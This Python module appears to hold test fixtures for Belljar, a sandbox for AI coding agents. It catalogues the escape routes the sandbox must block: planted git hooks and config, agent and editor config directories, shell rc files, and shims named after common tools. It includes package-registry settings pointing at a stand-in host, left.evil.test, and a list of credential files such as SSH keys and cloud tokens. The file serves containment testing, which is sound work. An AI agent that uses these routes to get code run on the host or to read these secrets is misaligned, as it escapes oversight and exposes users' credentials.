"""What lies in the working directory before anything is tried; the same is expected there at the end."""

from pathlib import Path
from typing import Final

OWN_PLACE: Final = "modules"
"""A directory that the PYTHONPATH of whoever makes the sandbox leads to: what is there runs as part of Belljar."""

_DIRECTORIES: Final = (
    ".git/hooks", ".git/rebase-merge", ".git/sequencer", ".git/modules/below/hooks",
    ".husky", ".vscode", ".idea", ".zed", ".devcontainer", ".claude",
    ".codex", ".cursor", ".gemini", ".opencode", ".config", ".ssh", OWN_PLACE,
)  # fmt: skip
_FILES: Final = (
    ".git/config", ".git/config.worktree", ".git/commondir", ".git/modules/below/config", ".pre-commit-config.yaml",
    ".envrc", ".mise.toml", "mise.toml", ".tool-versions", ".mcp.json", "opencode.json", ".npmrc", ".yarnrc.yml",
    ".pnpmfile.cjs", ".bashrc", ".bash_profile", ".profile", ".zshrc", ".zshenv", ".zprofile",
)  # fmt: skip

PLANTED: Final = (*(f"{directory}/planted" for directory in _DIRECTORIES), *_FILES)
"""Files from which the host's tools run code, or take orders."""

ADDED: Final = tuple(f"{directory}/added" for directory in _DIRECTORIES)
"""Files that are not there, and that nobody inside is to add."""

REPOSITORY: Final = Path("repository")
"""Where a repository is seen in the working directory that is elsewhere, and shown writable."""

REPOSITORY_HAS: Final = (
    ".git/HEAD", ".git/objects/pack", "nested/.git/HEAD", "nested/.git/objects/pack", ".git/modules/a/b/HEAD",
)  # fmt: skip
"""Files that make git take it for one."""

GIT_PLANTED: Final = (
    ".git/config", ".git/worktrees/elsewhere/HEAD", ".git/worktrees/elsewhere/gitdir",
    ".git/modules/a/b/commondir", ".git/modules/a/b/config", ".git/modules/a/b/hooks/planted",
    ".git/rebase-merge/git-rebase-todo", "nested/.git/config", "linked/.git",
)  # fmt: skip
"""Files in it that the host's git runs or follows."""

GIT_NAMED: Final = "named/hooks"
"""A directory of hooks, by its path in a working tree whose settings name it."""

GIT_ADDED: Final = (
    f"{GIT_NAMED}/added", f"nested/{GIT_NAMED}/added", ".git/hooks/added",
    ".git/worktrees/elsewhere/config.worktree", ".git/modules/a/b/hooks/added",
    ".git/rebase-merge/added", "nested/.git/hooks/added",
)  # fmt: skip
GIT_MADE: Final = (".git/commondir", "nested/.git/commondir")
"""Files that are not there: nobody inside is to add some of them, and the others are made, and say nothing."""

GIT_SAYS_NOTHING: Final = "./\n"

POLICY_OF_THE_AGENT: Final = ".belljar.toml"
"""A file that somebody could take for the policy."""

POLICY_OF_THE_MACHINE: Final = Path("/etc/belljar.yaml")
"""A file that somebody could take for everybody's policy. In an image of its own, an agent may write it."""

LEFT_PROGRAMS: Final = Path("left/bin")
LEFT_NAMES: Final = ("python3", "pip", "uv", "npm", "node", "go", "cargo", "mvn", "apt-get", "git", "docker")
LEFT_TRACE: Final = Path("left/trace")
"""Where an agent leaves programs for the host to run, what they are called, and what they write if they are run."""

LEFT_HOST: Final = "left.evil.test"
LEFT_SETTINGS: Final = {
    "PIP_CONFIG_FILE": ("python", "left/pip.conf", f"[global]\nindex-url = https://{LEFT_HOST}/simple\n"),
    "UV_CONFIG_FILE": ("python", "left/uv.toml", f'index-url = "https://{LEFT_HOST}/simple"\n'),
    "NPM_CONFIG_USERCONFIG": ("node", "left/npmrc", f"registry=https://{LEFT_HOST}/\n"),
    "CARGO_HOME": ("rust", "left/config.toml", f'registries.a.index = "https://{LEFT_HOST}/"\n'),
    "GOENV": ("go", "left/go.env", f"GOPROXY=https://{LEFT_HOST}\n"),
}
"""Settings of package tools that it leaves, by the variable that may lead the tool there."""

LINK_OUT: Final = "link-out"
"""A symbolic link to a file outside of the working directory."""

WRITTEN: Final = "{workshop}-written"
"""A file that is written wherever that can be done, called after the directory that the working directory is in."""

HOME: Final = "home"
"""The home directory of whoever makes the sandbox, beside the working directory."""

KEYS: Final = (
    ".ssh/id_ed25519", ".aws/credentials", ".netrc", ".config/gh/hosts.yml", ".config/gcloud/credentials.db",
    ".docker/config.json", ".kube/config", ".git-credentials", ".gnupg/secring.gpg", ".npmrc", ".pypirc",
    ".bash_history", ".mozilla/cookies.sqlite", ".claude/.credentials.json", ".local/share/keyrings/login.keyring",
)  # fmt: skip
"""Files in it that are nobody's business inside."""

TOOLS: Final = ".local/bin"
TOOL: Final = f"{TOOLS}/tool"
TOOLS_SOCKET: Final = f"{TOOLS}/socket"
TOOLS_FIFO: Final = f"{TOOLS}/fifo"
"""Programs that are kept there, and what lies among them: a socket and a FIFO, with somebody at the other end."""
